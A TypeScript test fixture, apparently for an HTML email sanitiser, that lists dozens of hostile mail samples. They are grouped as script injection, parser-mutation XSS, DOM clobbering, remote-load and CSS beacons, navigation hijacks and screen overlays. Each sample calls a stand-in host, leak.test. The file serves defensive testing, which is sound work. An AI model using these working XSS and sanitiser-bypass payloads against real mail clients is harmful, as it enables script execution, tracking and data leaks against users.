/**
 * Mail written to harm, by class. `LEAK` is an address that must never be asked for; `pwn()` stands for anything a script could do:
 * it tells the page, the top window and the network that it ran.
 */
export interface HostileMail {
  name: string;
  html: string;
}

const leak = 'https://leak.test';

const pwn = `try{top.postMessage('pwned','*')}catch(e){};new Image().src='${leak}/ran'`;

const group = (title: string, mails: Record<string, string>): HostileMail[] =>
  Object.entries(mails).map(([name, html]) => ({
    name: `${title}: ${name}`,
    html: html.replaceAll('LEAK', leak).replaceAll('PWN', pwn),
  }));

export const hostileMail: readonly HostileMail[] = [
  ...group('script', {
    element: '<script>PWN</script>',
    'split element': '<scr<script>ipt>PWN</scr</script>ipt>',
    'remote element': '<script src="LEAK/x.js"></script>',
    module: '<script type="module">import "LEAK/m.js"</script>',
    'event on image': '<img src=x onerror="PWN">',
    'event without quotes': '<img src=x onerror=PWN>',
    'event on body': '<body onload="PWN"><p>x</p></body>',
    'event on details': '<details open ontoggle="PWN">x</details>',
    'event by focus': '<input autofocus onfocus="PWN"><a autofocus tabindex=0 onfocus="PWN">x</a>',
    'event by animation':
      '<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend="PWN">x</b>',
    'event with slash': '<svg/onload=PWN>',
    'javascript address': '<a href="javascript:PWN">x</a>',
    'javascript address with tab': '<a href="java&#9;script:PWN">x</a>',
    'javascript address with entity': '<a href="&#x6A;avascript&colon;PWN">x</a>',
    'data document': '<a href="data:text/html,<script>PWN</script>">x</a>',
    'vbscript address': '<a href="vbscript:PWN">x</a>',
    'frame with document': '<iframe srcdoc="<script>PWN</script>"></iframe>',
    'frame by address': '<iframe src="javascript:PWN"></iframe>',
    object: '<object data="data:text/html,<script>PWN</script>"></object>',
    embed: '<embed src="LEAK/x.swf"><embed src="javascript:PWN">',
    'template with shadow': '<div><template shadowrootmode="open"><img src=x onerror="PWN"></template></div>',
    'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["LEAK/p"]}]}</script>',
  }),
  ...group('mutation', {
    'svg style': '<svg><style><img src=x onerror="PWN"></style></svg>',
    'svg animate':
      '<svg><a><animate attributeName=href values="javascript:PWN" /><text y=20>x</text></a></svg>',
    'svg use':
      '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=PWN>#x"/></svg>',
    'svg foreignObject':
      '<svg><foreignObject><iframe srcdoc="<script>PWN</script>"></iframe></foreignObject></svg>',
    mathml:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=PWN&gt;">',
    'mathml link': '<math href="javascript:PWN"><mi>x</mi></math>',
    noscript: '<noscript><p title="</noscript><img src=x onerror=PWN>"></noscript>',
    template: '<template><img src=x onerror="PWN"></template>',
    comment: '<!--><img src=x onerror="PWN">--><!-- --!><img src=x onerror="PWN"> -->',
    textarea: '<textarea><p title="</textarea><img src=x onerror=PWN>"></textarea>',
    title: '<title><a title="</title><img src=x onerror=PWN>"></title>',
    xmp: '<xmp><p title="</xmp><img src=x onerror=PWN>"></xmp>',
    'nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>',
    'select content':
      '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror="PWN"></select>',
    'style end in text': '<style>a{content:"</style><img src=x onerror=PWN>"}</style>',
    'processing instruction': '<?xml-stylesheet href="LEAK/x.css"?><p>x</p>',
    cdata: '<svg><![CDATA[><img src=x onerror="PWN">]]></svg>',
  }),
  ...group('clobbering', {
    'document members':
      '<img name="body"><img name="getElementById"><form id="attributes"><input name="nodeName"></form>',
    'own elements':
      '<div id="mail" class="unfolded">x</div><a id="parent"></a><a id="parent" name="postMessage"></a>',
    'prototype names':
      '<a id="__proto__"></a><img name="constructor"><form id="window"><input id="top"></form>',
    'sanitiser names':
      '<form><input name="parentNode"><input name="childNodes"><img src=x onerror="PWN"></form>',
  }),
  ...group('remote', {
    image: '<img src="LEAK/1.png">',
    'image without scheme': '<img src="//leak.test/2.png">',
    'image with backslashes': '<img src="\\\\leak.test/3.png"><img src="/\\leak.test/3.png">',
    'image with newline': '<img src="ht\ntps://leak.test/4.png">',
    srcset: '<img srcset="LEAK/5.png 1x, LEAK/6.png 2x">',
    picture: '<picture><source srcset="LEAK/7.png"><img src="LEAK/8.png"></picture>',
    'lazy image': '<img loading="lazy" src="LEAK/9.png">',
    'input image': '<input type="image" src="LEAK/10.png">',
    background:
      '<table background="LEAK/11.png"><tr><td background="LEAK/12.png">x</td></tr></table><body background="LEAK/13.png">',
    video: '<video poster="LEAK/14.png" src="LEAK/14.mp4" autoplay><track src="LEAK/14.vtt" default></video>',
    audio: '<audio src="LEAK/15.mp3" autoplay></audio>',
    'style sheet': '<link rel="stylesheet" href="LEAK/16.css">',
    preload: '<link rel="preload" as="image" href="LEAK/17.png"><link rel="modulepreload" href="LEAK/17.js">',
    prefetch:
      '<link rel="prefetch" href="LEAK/18"><link rel="prerender" href="LEAK/18b"><link rel="dns-prefetch" href="//leak.test"><link rel="preconnect" href="LEAK">',
    icon: '<link rel="icon" href="LEAK/19.ico"><link rel="manifest" href="LEAK/19.json">',
    'frame by address': '<iframe src="LEAK/20"></iframe><frameset><frame src="LEAK/20b"></frameset>',
    'object by address': '<object data="LEAK/21"></object><applet code="LEAK/21b"></applet>',
    ping: '<a href="LEAK/ok" ping="LEAK/22">x</a>',
    attribution: '<img attributionsrc="LEAK/23" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    'svg image':
      '<svg><image href="LEAK/24.png"/><image xlink:href="LEAK/24b.png"/><feImage href="LEAK/24c"/></svg>',
    'svg paint': '<svg><rect fill="url(LEAK/25#x)" filter="url(LEAK/25b#f)"/></svg>',
    longdesc: '<img longdesc="LEAK/26" usemap="LEAK/26b" dynsrc="LEAK/26c" lowsrc="LEAK/26d">',
  }),
  ...group('style', {
    'background in attribute': '<p style="background:url(LEAK/s1)">x</p>',
    'background in sheet': '<style>p{background-image:url("LEAK/s2")}</style><p>x</p>',
    import: '<style>@import "LEAK/s3.css";@import url(LEAK/s3b.css);</style>',
    'font face': '<style>@font-face{font-family:f;src:url(LEAK/s4.woff)}p{font-family:f}</style><p>x</p>',
    variable: '<style>:root{--x:url(LEAK/s5)}p{background:var(--x)}</style><p>x</p>',
    'variable fallback': '<p style="background:var(--none,url(LEAK/s6))">x</p>',
    'image set':
      '<p style="background:image-set(\'LEAK/s7\' 1x);background:-webkit-image-set(url(LEAK/s7b) 1x)">x</p>',
    'cross fade': '<p style="background:-webkit-cross-fade(url(LEAK/s8),url(LEAK/s8b),50%)">x</p>',
    escapes:
      '<p style="background:\\75\\72\\6c(LEAK/s9)">x</p><p style="background:u\\72l(\\2f\\2fleak.test/s9b)">x</p>',
    'unclosed address': '<p style="background:url(LEAK/s10">x</p><style>p{background:url(LEAK/s10b</style>',
    'comment inside': '<p style="background:/*x*/url(/**/LEAK/s11)">x</p>',
    cursor: '<p style="cursor:url(LEAK/s12),auto">x</p>',
    list: '<ul style="list-style-image:url(LEAK/s13)"><li>x</ul>',
    content: '<style>p::before{content:url(LEAK/s14)}</style><p>x</p>',
    mask: '<p style="-webkit-mask-image:url(LEAK/s15);mask:url(LEAK/s15b);border-image:url(LEAK/s15c) 1">x</p>',
    'attribute selector':
      '<style>a[href^="h"]{background:url(LEAK/s16)}</style><a href="https://ok.test">x</a>',
    'nested rule':
      '<style>div{& p{background:url(LEAK/s17)}@media all{background:url(LEAK/s17b)}}</style><div><p>x</p></div>',
    layers:
      '<style>@layer a{p{background:url(LEAK/s18)}}@supports(color:red){p{background:url(LEAK/s18b)}}@container(min-width:1px){p{background:url(LEAK/s18c)}}</style><p>x</p>',
    namespace:
      '<style>@namespace url(LEAK/s19);@property --p{syntax:"<image>";inherits:true;initial-value:url(LEAK/s19b)}</style>',
    'body background re-emitted':
      '<body background="data:image/png;base64,;background:url(//leak.test/s20)"><p>x</p></body>',
    'scroll timeline':
      '<style>@keyframes k{to{background:url(LEAK/s21)}}p{animation:k 1s infinite}</style><p>x</p>',
  }),
  ...group('navigation', {
    refresh: '<meta http-equiv="refresh" content="0;url=LEAK/n1">',
    base: '<base href="LEAK/n2/"><img src="x.png"><a href="y">y</a>',
    form: '<form action="LEAK/n3" id="f"><input name="a" value="b"></form><button form="f" formaction="LEAK/n3b">x</button>',
    target: '<a href="LEAK/ok" target="_top">x</a><a href="LEAK/ok" target="_parent">y</a>',
    'popover dialog': '<dialog open popover="auto"><form method="dialog"><button>x</button></form></dialog>',
    portal: '<portal src="LEAK/n6"></portal><fencedframe src="LEAK/n6b"></fencedframe>',
  }),
  ...group('overlay', {
    fixed: '<div style="position:fixed;inset:0;background:red;z-index:99999">x</div>',
    'fixed and important':
      '<style>div{position:fixed!important;top:0!important;width:100vw!important;height:100vh!important}</style><div>x</div>',
    'negative margin':
      '<div style="margin:-2000px 0 0 -2000px;width:9000px;height:9000px;background:red">x</div>',
    'endless height': '<div style="height:200vh">x</div><div style="height:99999999px">y</div>',
    'absolute beyond':
      '<div style="position:absolute;top:-500px;left:-500px;width:5000px;height:5000px">x</div>',
  }),
];
